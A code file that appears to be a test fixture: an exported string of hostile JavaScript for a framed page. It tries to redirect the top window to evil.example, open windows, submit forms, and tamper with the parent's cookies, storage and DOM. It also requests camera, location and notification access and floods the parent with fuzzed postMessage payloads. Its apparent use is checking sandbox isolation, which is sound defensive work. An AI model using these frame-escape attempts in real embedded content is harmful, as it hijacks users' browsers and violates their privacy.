/**
 * Script of a hostile framed page: navigates the top window, reads and changes the product, opens windows and dialogs,
 * requests device access, and floods the product with messages. Shows `done` at the end of its attempts.
 */
export const hostileScript = `
const elsewhere = 'https://evil.example/'
const click = (tag, attributes) => {
  const element = Object.assign(document.createElement(tag), attributes)
  document.body.append(element)
  tag === 'form' ? element.submit() : element.click()
}
const attempts = [
  () => (top.location = elsewhere),
  () => (top.location.href = elsewhere),
  () => top.location.replace(elsewhere),
  () => (top.location = 'javascript:document.title="taken"'),
  () => (parent.location = elsewhere),
  () => (parent.parent.location = elsewhere),
  () => open(elsewhere, '_top'),
  () => open(elsewhere, '_parent'),
  () => open(elsewhere, '_blank'),
  () => open('about:blank', 'exam').opener.location = elsewhere,
  () => top.open(elsewhere),
  () => (opener.location = elsewhere),
  () => (top.opener.location = elsewhere),
  () => click('a', { href: elsewhere, target: '_top' }),
  () => click('a', { href: elsewhere, target: '_blank', rel: 'opener' }),
  () => click('a', { href: elsewhere, target: '_unfencedTop' }),
  () => click('a', { href: 'data:text/plain,taken', download: 'taken.txt' }),
  () => click('form', { action: elsewhere, target: '_top' }),
  () => click('form', { action: elsewhere, target: '_blank' }),
  () => history.back(),
  () => history.go(-2),
  () => top.history.pushState(null, '', '/taken'),
  () => top.localStorage.setItem('taken', '1'),
  () => top.sessionStorage.clear(),
  () => parent.localStorage.clear(),
  () => (top.document.cookie = 'taken=1'),
  () => top.document.body.remove(),
  () => parent.document.body.remove(),
  () => (top.name = 'taken'),
  () => top.close(),
  () => top.focus(),
  () => top.alert('taken'),
  () => alert('taken'),
  () => confirm('taken'),
  () => prompt('taken'),
  () => print(),
  () => Notification.requestPermission(),
  () => navigator.geolocation.getCurrentPosition(() => (taken = true)),
  () => navigator.mediaDevices.getUserMedia({ video: true }),
  () => document.documentElement.requestFullscreen(),
  () => navigator.serviceWorker.register('/sw.js'),
  () => new BroadcastChannel('exam').postMessage({ kind: 'account', ref: null }),
]
const attemptAll = () => {
  for (const attempt of attempts) {
    try {
      Promise.resolve(attempt()).catch(() => undefined)
    } catch {}
  }
}

let seed = 20261121
const random = (below) => (seed = (seed * 48271) % 2147483647) % below
const words = ['ready', 'embed', 'account', 'locked', 'kind', 'ref', 'to', 'src', '__proto__', 'constructor', '', '0', elsewhere]
const values = [null, undefined, 0, NaN, '', 'ready', true, [], {}, -1, elsewhere, '{"embed":"ready"}', new Date(), new Error('x')]
const value = (depth) => {
  if (depth === 0 || random(3) === 0) return values[random(values.length)]
  if (random(4) === 0) return Array.from({ length: random(4) }, () => value(depth - 1))
  return Object.fromEntries(Array.from({ length: random(4) }, () => [words[random(words.length)], value(depth - 1)]))
}
const speak = () => {
  for (let count = 0; count < 1000; count += 1) {
    const word = count % 10 === 0 ? { embed: 'ready', more: value(1) } : value(3)
    top.postMessage(word, '*')
    parent.postMessage(word, '*')
  }
}

attemptAll()
speak()
// More is allowed during user activation.
addEventListener('click', () => {
  attemptAll()
  outcome.textContent = 'done twice'
}, { once: true })
outcome.textContent = 'done'
`
